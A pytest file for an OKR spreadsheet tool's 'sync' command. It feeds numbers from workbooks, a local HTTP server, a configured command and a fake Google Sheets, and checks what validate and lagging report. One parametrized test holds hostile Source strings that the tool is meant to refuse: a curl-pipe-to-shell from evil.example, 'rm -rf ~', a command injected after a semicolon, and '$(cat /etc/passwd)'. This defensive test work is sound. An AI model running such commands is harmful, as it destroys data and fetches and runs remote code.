"""`okr sync` end to end: source workbooks saved by LibreOffice, CSV and JSON from a real local
HTTP server (slow, failing and hanging answers included), a command from the machine's config,
and Google on the fake; what lands in the workbook, what validate and lagging then say."""

from __future__ import annotations

import json
import sys
from collections import Counter
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from okrsheet.layout.schema import OKR_COLUMNS
from okrsheet.stores.primitives import column_letter
from okrsheet.stores.xlsx.store import XlsxStore
from tests.cli.conftest import kr_row, read_tab
from tests.conftest import TODAY, Google, init_bytes, type_cells
from tests.sources_parts import Answer, Cell, Server, libreoffice_books, serve, write_config

Tabs = dict[str, list[list[Cell]]]

#: The first column right of the example's OKR tables (41 columns), and of its KPIs tab.
#: Right of the last column `okr init` lays out on an OKR tab.
SOURCE_COL = len(OKR_COLUMNS) + 1
KPI_SOURCE_COL = 9

FINANCE: Tabs = {
    "P&L": [["Month", "ARR"], ["October", 2_500_000], ["November", 2_700_000], ["Total", "=B3"]],
    "Other": [["n/a"]],
}
PIPELINE: Tabs = {
    "Pipeline": [["Week", "Stage", "Days"], [1, "open", 88], [2, "open", 84], [3, None, 81]]
}


@pytest.fixture(scope="module")
def books(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """Source workbooks written by LibreOffice (the formula computed by it), made once."""
    folder = tmp_path_factory.mktemp("books")
    many: dict[str, Tabs] = {
        f"dept{n}": {"Numbers": [[f"N{i}", 100 + 10 * n + i] for i in range(1, 9)]}
        for n in range(1, 5)
    }
    return libreoffice_books(folder, {"finance": FINANCE, "pipeline": PIPELINE, **many})


@pytest.fixture(scope="module")
def module_server() -> Iterator[Server]:
    yield from serve()


@pytest.fixture
def server(module_server: Server) -> Server:
    module_server.reset()
    return module_server


@pytest.fixture
def machine(tmp_path: Path, server: Server, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The machine's config: the local server over plain http, a token for it from the
    environment, a short timeout, and one command."""
    monkeypatch.setenv("METRICS_TOKEN", "s3cret-token")
    command = json.dumps([sys.executable, "-c", "print('leads this quarter: 610')"])
    return write_config(
        tmp_path / "machine.toml",
        f"""
[sync]
timeout = 1.5
allow_http = ["127.0.0.1"]

[sync.auth."127.0.0.1"]
header = "X-Api-Token"
env = "METRICS_TOKEN"

[sync.commands.leads]
run = {command}
""",
        monkeypatch,
    )


def put_books(folder: Path, books: dict[str, bytes]) -> None:
    for name, data in books.items():
        (folder / f"{name}.xlsx").write_bytes(data)


def add_sources(path: Path, tab: str, sources: dict[int, str], *, synced: bool = False) -> None:
    """A Source column (and a Synced one) right of the tab's table, typed by a person."""
    col = KPI_SOURCE_COL if tab == "KPIs" else SOURCE_COL
    cells: dict[tuple[int, int], Any] = {(1, col): "Source"}
    if synced:
        cells[(1, col + 1)] = "Synced"
    cells.update({(row, col): text for row, text in sources.items()})
    type_cells(path, {tab: cells})


def row_of(path: Path, tab: str, item: str) -> dict[str, Any]:
    return kr_row(path, item, tab) if tab != "KPIs" else _kpi(path, item)


def _kpi(path: Path, kpi_id: str) -> dict[str, Any]:
    rows = read_tab(path, "KPIs")
    return next(dict(zip(rows[0], r, strict=False)) for r in rows[1:] if r[0] == kpi_id)


def log(path: Path) -> list[dict[str, Any]]:
    rows = read_tab(path, "Check-ins")
    return [dict(zip(rows[0], r, strict=False)) for r in rows[1:] if r[0] is not None]


@pytest.fixture
def fed(
    example: Path, books: dict[str, bytes], server: Server, machine: Path
) -> tuple[Path, Server]:
    """The example company with a source of every kind on its key results and one KPI."""
    put_books(example.parent, books)
    (example.parent / "demos.csv").write_text("Week,Demos\n1,4\n2,5\n", encoding="utf-8")
    server.answers["/deals.csv"] = Answer(
        b"Stage,Opps\nQualified,40\nLost,9\nQualified,35\n", content_type="text/csv"
    )
    server.answers["/stats.json"] = Answer(
        json.dumps({"forecast": {"accuracy": 0.78}}).encode(), delay=0.2
    )
    server.answers["/visitors.json"] = Answer(
        b'{"week": [{"visits": 7100}, {"visits": 8450}]}', needs=("X-Api-Token", "s3cret-token")
    )
    add_sources(
        example,
        "Corporate",
        {3: "finance.xlsx!'P&L'!B4", 4: "pipeline.xlsx!Pipeline!C:C"},
    )
    add_sources(
        example,
        "Sales",
        {
            3: f"{server.url('/deals.csv')}!sum(Opps)[Stage=Qualified]",
            4: f"{server.url('/stats.json')}#/forecast/accuracy",
            5: "demos.csv!Demos",
        },
        synced=True,
    )
    add_sources(example, "Marketing", {3: "config:leads"})
    add_sources(example, "KPIs", {2: f"{server.url('/visitors.json')}#/week/1/visits"})
    return example, server


# Every kind, on a local workbook -------------------------------------------------------------


def test_every_kind_of_source_syncs_into_one_write(okr: Any, fed: tuple[Path, Server]) -> None:
    path, server = fed
    confidence_before = kr_row(path, "SALES-1.2", "Sales")["Confidence"]

    result = okr("sync", "-w", str(path))

    assert result.exit_code == 0, result.stderr
    assert kr_row(path, "CORP-1.1", "Corporate")["Current"] == 2_700_000  # LibreOffice's formula
    assert kr_row(path, "CORP-1.2", "Corporate")["Current"] == 81  # the column's last number
    assert kr_row(path, "SALES-1.1", "Sales")["Current"] == 75  # 40 + 35 qualified
    assert kr_row(path, "SALES-1.2", "Sales")["Current"] == 0.78  # the slow answer
    assert kr_row(path, "SALES-1.3", "Sales")["Current"] == 5
    assert kr_row(path, "MARKET-1.1", "Marketing")["Current"] == 610  # the config's command
    assert _kpi(path, "KPI-1")["Current"] == 8450  # with the token from the environment
    # Confidence is the owner's: sync leaves it as it was.
    assert kr_row(path, "SALES-1.2", "Sales")["Confidence"] == confidence_before
    entries = {e["KR ID"]: e for e in log(path) if str(e["Author"]).startswith("sync:")}
    assert set(entries) == {
        "CORP-1.1", "CORP-1.2", "SALES-1.1", "SALES-1.2", "SALES-1.3", "MARKET-1.1", "KPI-1"
    }  # fmt: skip
    assert entries["CORP-1.1"]["Author"] == "sync:finance.xlsx!'P&L'!B4"
    assert entries["CORP-1.1"]["Note"] == "synced from finance.xlsx!'P&L'!B4"
    assert entries["SALES-1.2"]["Confidence"] is None
    # Each KR shows where its number came from and when: a Synced column (added on Corporate).
    assert kr_row(path, "SALES-1.3", "Sales")["Synced"] == f"synced {TODAY.isoformat()}"
    assert kr_row(path, "CORP-1.1", "Corporate")["Synced"] == f"synced {TODAY.isoformat()}"
    assert _kpi(path, "KPI-1")["Synced"] == f"synced {TODAY.isoformat()}"
    assert "SALES-1.1: 63 -> 75" in result.stdout
    assert "s3cret" not in result.stdout + result.stderr
    assert server.hits == Counter({"/deals.csv": 1, "/stats.json": 1, "/visitors.json": 1})


def test_a_second_run_with_nothing_changed_writes_nothing(
    okr: Any, fed: tuple[Path, Server]
) -> None:
    path, server = fed
    assert okr("sync", "-w", str(path)).exit_code == 0
    before = path.read_bytes()

    again = okr("sync", "-w", str(path))

    assert again.exit_code == 0, again.stderr
    assert path.read_bytes() == before
    assert again.stdout == "" and again.stderr == ""  # cron mails nothing
    server.answers["/deals.csv"] = Answer(b"Stage,Opps\nQualified,40\nQualified,41\n")
    third = okr("sync", "-w", str(path))
    assert third.exit_code == 0, third.stderr
    assert third.stdout.strip() == f"SALES-1.1: 75 -> 81  from {server.url('/deals.csv')}" + (
        "!sum(Opps)[Stage=Qualified]"
    )
    assert [e["KR ID"] for e in log(path)][-1] == "SALES-1.1"


def test_slow_sources_are_read_at_the_same_time(okr: Any, fed: tuple[Path, Server]) -> None:
    path, server = fed
    for name in ("/deals.csv", "/stats.json", "/visitors.json"):
        server.answers[name] = replace(server.answers[name], delay=0.4)

    result = okr("sync", "-w", str(path))

    assert result.exit_code == 0, result.stderr
    assert server.most_at_once == 3
    assert _kpi(path, "KPI-1")["Current"] == 8450


def test_after_the_cycle_nothing_is_read_and_rollover_is_suggested(
    okr: Any, fed: tuple[Path, Server], monkeypatch: pytest.MonkeyPatch
) -> None:
    path, server = fed
    before = path.read_bytes()
    monkeypatch.setenv("OKR_TODAY", "2027-01-04")

    result = okr("sync", "-w", str(path))

    assert result.exit_code == 0
    assert "outside the cycle 2026-Q4" in result.stderr and "okr rollover" in result.stderr
    assert server.hits == Counter()
    assert path.read_bytes() == before


def test_dry_run_and_one_kr(
    okr: Any, fed: tuple[Path, Server], monkeypatch: pytest.MonkeyPatch
) -> None:
    path, _ = fed
    before = path.read_bytes()

    with monkeypatch.context() as patched:  # a dry run never takes the write lock
        patched.setattr(XlsxStore, "update", lambda *a, **k: pytest.fail("update in a dry run"))
        dry = okr("sync", "--dry-run", "-w", str(path))

    assert dry.exit_code == 0, dry.stderr
    assert "SALES-1.3: 4 -> 5  from demos.csv!Demos" in dry.stdout
    assert "nothing was written" in dry.stderr
    assert path.read_bytes() == before
    one = okr("sync", "--kr", "sales-1.3", "-w", str(path))
    assert one.exit_code == 0, one.stderr
    assert one.stdout.strip() == "SALES-1.3: 4 -> 5  from demos.csv!Demos"
    assert kr_row(path, "SALES-1.1", "Sales")["Current"] == 63  # not synced
    unknown = okr("sync", "--kr", "NOPE-1", "-w", str(path))
    assert unknown.exit_code == 2
    assert "--kr: no key result or KPI with ID 'NOPE-1'" in unknown.stderr


# Broken sources ------------------------------------------------------------------------------


def test_a_broken_source_of_each_kind_is_named_everywhere_and_the_others_still_sync(
    okr: Any, fed: tuple[Path, Server], monkeypatch: pytest.MonkeyPatch
) -> None:
    path, server = fed
    server.answers["/deals.csv"] = Answer(b"oops", status=500)
    server.answers["/stats.json"] = Answer(b"{}", delay=2.5)  # past the 1.5 s timeout
    add_sources(
        path,
        "Corporate",
        {
            3: "finance.xlsx!'Profit'!B4",  # the tab was renamed
            4: "finance.xlsx!Other!A1",  # not a number
            7: "gone.xlsx!Sheet1!A1",  # no such file
            6: "finance.xlsx!'P&L'!B2",  # on an objective: a warning, not read
        },
    )

    result = okr("sync", "-w", str(path))

    assert result.exit_code == 8
    errors = result.stderr
    assert "CORP-2:" not in errors  # an objective's Source is never read
    assert "CORP-1.1: source finance.xlsx!'Profit'!B4 unreadable: tab 'Profit' not found" in errors
    assert "CORP-1.2: source finance.xlsx!Other!A1 unreadable: not a number: 'n/a'" in errors
    assert "CORP-2.1: source gone.xlsx!Sheet1!A1 unreadable: no workbook at gone.xlsx" in errors
    assert "SALES-1.1: source" in errors and "unreadable: HTTP 500" in errors
    assert "SALES-1.2: source" in errors and "unreadable: no answer within 1.5 s" in errors
    # The others still synced, in the same run.
    assert kr_row(path, "SALES-1.3", "Sales")["Current"] == 5
    assert _kpi(path, "KPI-1")["Current"] == 8450
    assert kr_row(path, "CORP-1.1", "Corporate")["Current"] == 2_635_298  # untouched
    synced = kr_row(path, "CORP-1.1", "Corporate")["Synced"]
    assert synced == "unreadable since 2026-11-16: tab 'Profit' not found"

    validate = okr("validate", "-w", str(path))
    assert validate.exit_code == 0  # warnings: the workbook itself is sound
    flat = " ".join(validate.stdout.split())
    assert (
        "source finance.xlsx!'Profit'!B4 unreadable since 2026-11-16: tab 'Profit' not found"
        in flat
    )
    assert "unreadable since 2026-11-16: HTTP 500" in flat
    assert "unreadable since 2026-11-16: no answer within 1.5 s" in flat
    assert (
        "source gone.xlsx!Sheet1!A1 unreadable since 2026-11-16: no workbook at gone.xlsx" in flat
    )
    assert f"Corporate!{column_letter(SOURCE_COL + 1)}3" in flat
    assert "an objective takes its progress from its key results" in flat

    # A day later the failure keeps the day it began; lagging says it without reading again.
    monkeypatch.setenv("OKR_TODAY", "2026-11-17")
    server.reset()
    assert okr("sync", "-w", str(path)).exit_code == 8
    assert kr_row(path, "CORP-1.1", "Corporate")["Synced"] == synced
    server.reset()
    lagging = okr("lagging", "-f", "json", "-w", str(path))
    assert lagging.exit_code == 0, lagging.stderr
    assert server.hits == Counter()  # nothing fetched
    reasons = {row["id"]: row["reasons"] for row in lagging.json()["lagging"]}
    assert (
        "source finance.xlsx!'Profit'!B4 unreadable since 2026-11-16: tab 'Profit' not found"
        in reasons["CORP-1.1"]
    )
    assert any("unreadable since 2026-11-16: HTTP 404" in r for r in reasons["SALES-1.1"])
    assert any("unreadable since 2026-11-16: HTTP 404" in r for r in reasons["SALES-1.2"])
    # The KPI read well on the first day and not on the second.
    kpis = {row["id"]: row["reasons"] for row in lagging.json()["kpis"]}
    assert any("unreadable since 2026-11-17: HTTP 404 Not Found" in r for r in kpis["KPI-1"])


def test_a_token_comes_from_the_environment_and_only_to_its_host(
    okr: Any, fed: tuple[Path, Server], monkeypatch: pytest.MonkeyPatch
) -> None:
    path, server = fed
    monkeypatch.delenv("METRICS_TOKEN")

    result = okr("sync", "--kr", "KPI-1", "-w", str(path))

    assert result.exit_code == 8
    assert "the environment variable METRICS_TOKEN (for 127.0.0.1) is not set" in result.stderr
    assert server.hits == Counter()  # nothing was asked without it
    write_config(path.parent / "machine.toml", '[sync]\nallow_http = ["127.0.0.1"]\n', monkeypatch)
    refused = okr("sync", "--kr", "KPI-1", "-w", str(path))
    assert refused.exit_code == 8
    assert "unreadable: HTTP 401 Unauthorized" in refused.stderr
    assert all("X-Api-Token" not in h for h in server.headers)


def test_a_recovered_source_says_so(okr: Any, fed: tuple[Path, Server]) -> None:
    path, server = fed
    server.answers["/stats.json"] = Answer(b"[]", status=503)
    assert okr("sync", "-w", str(path)).exit_code == 8
    assert kr_row(path, "SALES-1.2", "Sales")["Synced"].startswith("unreadable since")

    server.answers["/stats.json"] = Answer(b'{"forecast": {"accuracy": 0.78}}')
    again = okr("sync", "-w", str(path))

    assert again.exit_code == 0, again.stderr
    assert kr_row(path, "SALES-1.2", "Sales")["Synced"] == f"synced {TODAY.isoformat()}"


def test_a_stale_source_on_a_key_result_behind_is_a_lagging_reason(
    okr: Any, fed: tuple[Path, Server], monkeypatch: pytest.MonkeyPatch
) -> None:
    path, _ = fed
    assert okr("sync", "-w", str(path)).exit_code == 0
    monkeypatch.setenv("OKR_TODAY", "2026-12-10")
    assert okr("sync", "-w", str(path)).exit_code == 0  # the numbers did not move

    lagging = okr("lagging", "-f", "json", "-w", str(path))

    reasons = {row["id"]: row["reasons"] for row in lagging.json()["lagging"]}
    assert "source demos.csv!Demos unchanged since 2026-11-16 while behind" in reasons["SALES-1.3"]
    validate = okr("validate", "-f", "json", "-w", str(path))
    stale = [f for f in validate.json()["findings"] if f["code"] == "source-stale"]
    assert {
        "severity": "warning",
        "code": "source-stale",
        "message": "source demos.csv!Demos unchanged since 2026-11-16 while behind",
        "where": f"Sales!{column_letter(SOURCE_COL)}5",
    } in stale


# What a workbook may not hold ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("typed", "said"),
    [
        ("bash -c 'curl https://evil.example/x | sh'", "names a command"),
        ("cmd:rm -rf ~", "names a command"),
        ("deals.csv!Amount; rm -rf ~", "names a command"),
        ("$(cat /etc/passwd)", "names a command"),
        ("https://api.example.com/v1/stats?access_token=TOPSECRET42#/n", "token or secret"),
        ("https://bob:TOPSECRET42@api.example.com/stats.json#/n", "user name or password"),
        ("https://api.example.com/stats.json#/n Bearer TOPSECRET42xyz", "token or secret"),
    ],
)
def test_a_source_naming_a_command_or_a_token_is_refused(
    okr: Any, fed: tuple[Path, Server], typed: str, said: str
) -> None:
    path, server = fed
    add_sources(path, "Sales", {5: typed}, synced=True)

    validate = okr("validate", "-w", str(path))
    result = okr("sync", "-w", str(path))

    assert validate.exit_code == 3
    flat = " ".join(validate.stdout.split())
    assert f"Sales!{column_letter(SOURCE_COL)}5" in flat and said in flat
    assert result.exit_code == 8
    assert said in result.stderr
    for shown in (validate.stdout, validate.stderr, result.stdout, result.stderr):
        assert "TOPSECRET42" not in shown
    assert "TOPSECRET42" not in kr_row(path, "SALES-1.3", "Sales")["Synced"]
    assert kr_row(path, "SALES-1.3", "Sales")["Current"] == 4  # nothing from it
    assert kr_row(path, "SALES-1.1", "Sales")["Current"] == 75  # the others synced
    assert "evil" not in str(server.hits)


# Scale: one read per source ------------------------------------------------------------------


@pytest.fixture(scope="module")
def forty(tmp_path_factory: pytest.TempPathFactory) -> tuple[bytes, dict[int, str]]:
    """40 key results in 8 objectives, 32 of them fed by 4 source workbooks; and the rows of
    the 8 the test feeds from a CSV URL (`PORT/` stands for the server's address)."""
    path = tmp_path_factory.mktemp("forty") / "forty.xlsx"
    init_bytes(path, "--company", "Forty")
    cells: dict[tuple[int, int], Any] = {(1, SOURCE_COL): "Source"}
    later: dict[tuple[int, int], str] = {}
    row = 2
    for o in range(1, 9):
        objective = [
            "Objective", f"O-{o}", None, f"Objective {o}", "corporate", "Ana Lima"
        ]  # fmt: skip
        cells.update({(row, c): v for c, v in enumerate(objective, start=1) if v is not None})
        row += 1
        for k in range(1, 6):
            n = (o - 1) * 5 + k
            kr = ["Key result", f"O-{o}.{k}", f"O-{o}", f"Number {n}", None, "Ana Lima", None,
                  None, 0, 1000, None, "units", "2026-12-31"]  # fmt: skip
            cells.update({(row, c): v for c, v in enumerate(kr, start=1) if v is not None})
            book, line = divmod(n - 1, 8)
            source = (
                f"dept{book + 1}.xlsx!Numbers!B{line + 1}"
                if book < 4
                else f"PORT/team.csv!Count[Team=T{line + 1}]"
            )
            (later if book == 4 else cells)[(row, SOURCE_COL)] = source
            row += 1
    type_cells(path, {"Corporate": cells})
    return path.read_bytes(), {r: text for (r, _), text in later.items()}


def test_forty_key_results_from_five_sources_read_each_source_once(
    okr: Any,
    forty: tuple[bytes, dict[int, str]],
    books: dict[str, bytes],
    server: Server,
    machine: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    path = tmp_path / "forty.xlsx"
    put_books(tmp_path, books)
    data, by_url = forty
    path.write_bytes(data)
    add_sources(
        path, "Corporate", {r: t.replace("PORT/", server.url("/")) for r, t in by_url.items()}
    )
    server.answers["/team.csv"] = Answer(
        ("Team,Count\n" + "".join(f"T{i},{500 + i}\n" for i in range(1, 9))).encode()
    )
    reads: Counter[str] = Counter()
    real_read = XlsxStore.read

    def counted(store: XlsxStore) -> Any:
        reads[store.path.name] += 1
        return real_read(store)

    monkeypatch.setattr(XlsxStore, "read", counted)
    # The workbook synced is read once too: the write plans on the read sync made.
    real_skimmed = XlsxStore._read_skimmed

    def skimmed(store: XlsxStore, skim: Any, data: bytes) -> Any:
        reads[store.path.name] += 1
        return real_skimmed(store, skim, data)

    monkeypatch.setattr(XlsxStore, "_read_skimmed", skimmed)

    result = okr("sync", "-w", str(path))

    assert result.exit_code == 0, result.stderr
    assert {k: v for k, v in reads.items() if k.startswith("dept")} == {
        f"dept{n}.xlsx": 1 for n in range(1, 5)
    }
    assert reads["forty.xlsx"] == 1
    assert server.hits == Counter({"/team.csv": 1})
    assert len(result.stdout.splitlines()) == 40
    assert kr_row(path, "O-1.1", "Corporate")["Current"] == 111
    assert kr_row(path, "O-8.5", "Corporate")["Current"] == 508
    synced = [e for e in log(path) if str(e["Author"]).startswith("sync:")]
    assert len(synced) == 40
    before = path.read_bytes()
    assert okr("sync", "-w", str(path)).exit_code == 0
    assert path.read_bytes() == before


# Google ------------------------------------------------------------------------------------


def test_every_kind_feeds_a_google_workbook_and_a_google_source_feeds_it_too(
    okr: Any,
    google: Google,
    gexample: str,
    books: dict[str, bytes],
    server: Server,
    machine: Path,
    tmp_path: Path,
) -> None:
    fake = google.fake
    sid = google.sheet_id()
    source_id = fake.add_spreadsheet(
        {"Pipeline": [["Week", "Won"], [1, 70], [2, 77]]}, title="CRM export"
    )
    put_books(tmp_path, books)  # relative to the working directory for a Google workbook
    server.answers["/deals.csv"] = Answer(b"Stage,Opps\nQualified,40\nQualified,35\n")
    server.answers["/stats.json"] = Answer(b'{"forecast": {"accuracy": 0.8}}')
    width = len(fake.values(sid, "Sales")[0])
    col = column_letter(width + 1)
    fake.set_values(
        sid,
        f"Sales!{col}1:{col}5",
        [
            ["Source"],
            [None],
            [f"gsheet:{source_id}!Pipeline!B:B"],
            [f"{server.url('/stats.json')}#/forecast/accuracy"],
            [f"{server.url('/deals.csv')}!sum(Opps)[Stage=Qualified]"],
        ],
        value_input_option="RAW",
    )
    fake.set_values(
        sid,
        f"Corporate!{column_letter(len(fake.values(sid, 'Corporate')[0]) + 1)}1:AZ4",
        [["Source"], [None], ["finance.xlsx!'P&L'!B4"], [f"gsheet:{source_id}!Nope!A1"]],
        value_input_option="RAW",
    )
    fake.reset_calls()

    result = okr("sync", "-w", gexample)

    assert result.exit_code == 8  # the Google source naming a missing tab
    assert "CORP-1.2: source" in result.stderr and "tab 'Nope' not found" in result.stderr
    # The write, then deleting the scratch tab that let it be checked (as a check-in).
    assert fake.count("sheets-write") == 2
    # The CRM spreadsheet feeds two key results and is read once (a whole read is 2 calls).
    assert len([c for c in fake.sheets_reads() if source_id in c.path]) == 2
    assert server.hits == Counter({"/deals.csv": 1, "/stats.json": 1})
    rows = {r[1]: r for r in fake.values(sid, "Sales") if len(r) > 1}
    header = fake.values(sid, "Sales")[0]
    current = header.index("Current")
    assert rows["SALES-1.1"][current] == 77
    assert rows["SALES-1.2"][current] == 0.8
    assert rows["SALES-1.3"][current] == 75
    corporate = {r[1]: r for r in fake.values(sid, "Corporate") if len(r) > 1}
    assert corporate["CORP-1.1"][current] == 2_700_000
    synced = fake.values(sid, "Corporate")[0].index("Synced")
    assert corporate["CORP-1.2"][synced] == "unreadable since 2026-11-16: tab 'Nope' not found"

    fake.reset_calls()
    again = okr("sync", "-w", gexample)
    assert again.exit_code == 8
    assert fake.count("sheets-write") == 0  # nothing changed: nothing written
    lagging = okr("lagging", "-f", "json", "-w", gexample)
    reasons = {row["id"]: row["reasons"] for row in lagging.json()["lagging"]}
    assert any("tab 'Nope' not found" in r for r in reasons.get("CORP-1.2", []))
    validate = okr("validate", "-f", "json", "-w", gexample)
    failing = [f for f in validate.json()["findings"] if f["code"] == "source-failing"]
    assert [f["message"] for f in failing] == [
        f"source gsheet:{source_id}!Nope!A1 unreadable since 2026-11-16: tab 'Nope' not found"
    ]


def test_a_google_source_feeds_a_local_workbook(
    okr: Any, google: Google, example: Path, machine: Path
) -> None:
    source_id = google.fake.add_spreadsheet({"Pipeline": [["Week", "Won"], [1, 70], [2, 77]]})
    add_sources(example, "Sales", {3: f"gsheet:{source_id}!Pipeline!B:B"})

    result = okr("sync", "-w", str(example))

    assert result.exit_code == 0, result.stderr
    assert kr_row(example, "SALES-1.1", "Sales")["Current"] == 77
    assert google.fake.count("sheets-write") == 0
